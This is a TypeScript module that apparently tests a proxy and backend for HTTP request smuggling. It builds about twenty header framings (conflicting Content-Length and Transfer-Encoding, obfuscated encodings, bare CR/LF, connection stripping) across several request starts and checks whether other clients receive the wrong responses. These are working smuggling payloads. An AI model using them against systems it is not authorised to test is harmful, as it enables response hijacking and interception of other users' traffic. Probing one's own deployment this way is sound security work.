import { setTimeout as wait } from 'node:timers/promises'
import { networkAddress, send, type Answer, type Door } from './door.ts'
import { sendRaw } from './raw-request.ts'
import { signing } from './probes/request-bytes.ts'

/** Series of the networks from which the smuggler and the victims come. */
const series = { smuggler: 16, victim: 17 } as const

/** Victims that follow each attempt on the connections to the backend. */
const victims = 6

/** What victims ask for: small, and the same at each call. */
const markerPath = '/icon.svg'

export interface Smuggled {
  readonly attempts: number
  /** Attempts after which somebody was answered what somebody else had asked for. */
  readonly findings: readonly string[]
}

/**
 * Tries through a proxy to leave half a request behind on a connection to the backend, so that the next client's request
 * is read as its end; honest clients follow at once on the same few connections and must be answered their own.
 *
 * @param most - Attempts, where not all are wanted.
 */
export async function smuggleAll(door: Door, most = Infinity): Promise<Smuggled> {
  const expected = await marker(door, 0)
  const findings: string[] = []
  const all = attempts(door.host).slice(0, most)
  for (const [index, [name, bytes]] of all.entries()) {
    const from = networkAddress(series.smuggler, index)
    const attack = sendRaw(door, bytes, { from, patience: 2000, quiet: 100 })
    await wait(150)
    for (let victim = 0; victim < victims; victim += 1) {
      const answer = await marker(door, index * victims + victim)
      if (answer !== expected) {
        findings.push(`${name}: a client was answered "${answer.slice(0, 60)}"`)
        break
      }
    }
    await attack
  }
  return { attempts: all.length, findings }
}

/** What somebody gets who asks for the marker; a proxy that has just lost its backend may be asked once more. */
async function marker(door: Door, victim: number): Promise<string> {
  const ask = (): Promise<Answer> => send(door, networkAddress(series.victim, victim), { path: markerPath })
  const answer = await ask()
  const { status, text } = answer.status === 502 ? await ask() : answer
  return `${String(status)} ${text.trim()}`
}

/** A hidden request that stays open, so that the next client's is read as the rest of its last header. */
const hiddenLine = (host: string): string => `GET /en/privacy?smuggled HTTP/1.1\r\nHost: ${host}\r\nX-Rest: `

const framings: readonly (readonly [name: string, lines: (hidden: string) => readonly string[]])[] = [
  ['a length where none is expected', (hidden) => [`Content-Length: ${String(hidden.length)}`]],
  ['length, then chunks', (hidden) => [`Content-Length: ${String(hidden.length + 5)}`, 'Transfer-Encoding: chunked']],
  ['chunks, then length', (hidden) => ['Transfer-Encoding: chunked', `Content-Length: ${String(hidden.length + 5)}`]],
  ['two lengths', (hidden) => ['Content-Length: 5', `Content-Length: ${String(hidden.length + 5)}`]],
  ['two lengths, turned', (hidden) => [`Content-Length: ${String(hidden.length + 5)}`, 'Content-Length: 5']],
  ['a length with a sign', (hidden) => [`Content-Length: +${String(hidden.length + 5)}`]],
  [
    'a space before the colon',
    (hidden) => [`Content-Length: ${String(hidden.length + 5)}`, 'Transfer-Encoding : chunked'],
  ],
  ['a folded encoding', (hidden) => [`Content-Length: ${String(hidden.length + 5)}`, 'Transfer-Encoding:\r\n chunked']],
  [
    'a tab before the encoding',
    (hidden) => [`Content-Length: ${String(hidden.length + 5)}`, 'Transfer-Encoding:\tchunked'],
  ],
  ['a vertical tab', (hidden) => [`Content-Length: ${String(hidden.length + 5)}`, 'Transfer-Encoding: \vchunked']],
  [
    'an encoding in capitals',
    (hidden) => [`Content-Length: ${String(hidden.length + 5)}`, 'Transfer-Encoding: CHUNKED'],
  ],
  ['an unknown encoding', (hidden) => [`Content-Length: ${String(hidden.length + 5)}`, 'Transfer-Encoding: xchunked']],
  [
    'two encodings',
    (hidden) => [`Content-Length: ${String(hidden.length + 5)}`, 'Transfer-Encoding: chunked, identity'],
  ],
  [
    'an encoding behind a bare LF',
    (hidden) => [`Content-Length: ${String(hidden.length + 5)}`, 'X-A: b\nTransfer-Encoding: chunked'],
  ],
  [
    'an encoding behind a bare CR',
    (hidden) => [`Content-Length: ${String(hidden.length + 5)}`, 'X-A: b\rTransfer-Encoding: chunked'],
  ],
  [
    'a length that the connection header strikes out',
    (hidden) => [`Content-Length: ${String(hidden.length)}`, 'Connection: content-length'],
  ],
  [
    'chunks that the connection header strikes out',
    () => ['Transfer-Encoding: chunked', 'Connection: transfer-encoding'],
  ],
  [
    'an upgrade',
    (hidden) => [
      `Content-Length: ${String(hidden.length)}`,
      'Connection: Upgrade',
      'Upgrade: websocket',
      'Sec-WebSocket-Version: 777',
      'Sec-WebSocket-Key: x',
    ],
  ],
  ['an expectation', (hidden) => [`Content-Length: ${String(hidden.length)}`, 'Expect: 100-continue']],
  ['a strange expectation', (hidden) => [`Content-Length: ${String(hidden.length)}`, 'Expect: y 100-continue']],
]

const starts = [
  'GET /en',
  'GET /icon.svg',
  `POST ${signing}`,
  'POST /en',
  'HEAD /en',
  'OPTIONS /en',
  'GET /_next/static/none.js',
] as const

function attempts(host: string): readonly (readonly [name: string, bytes: string])[] {
  const hidden = hiddenLine(host)
  return starts.flatMap((start) =>
    framings.map(([name, lines]) => {
      const own = lines(hidden)
      const isChunked = own.some((line) => /chunked/iu.test(line))
      const body = isChunked ? `0\r\n\r\n${hidden}` : hidden
      return [`${start}, ${name}`, [`${start} HTTP/1.1`, `Host: ${host}`, ...own, '', body].join('\r\n')] as const
    }),
  )
}
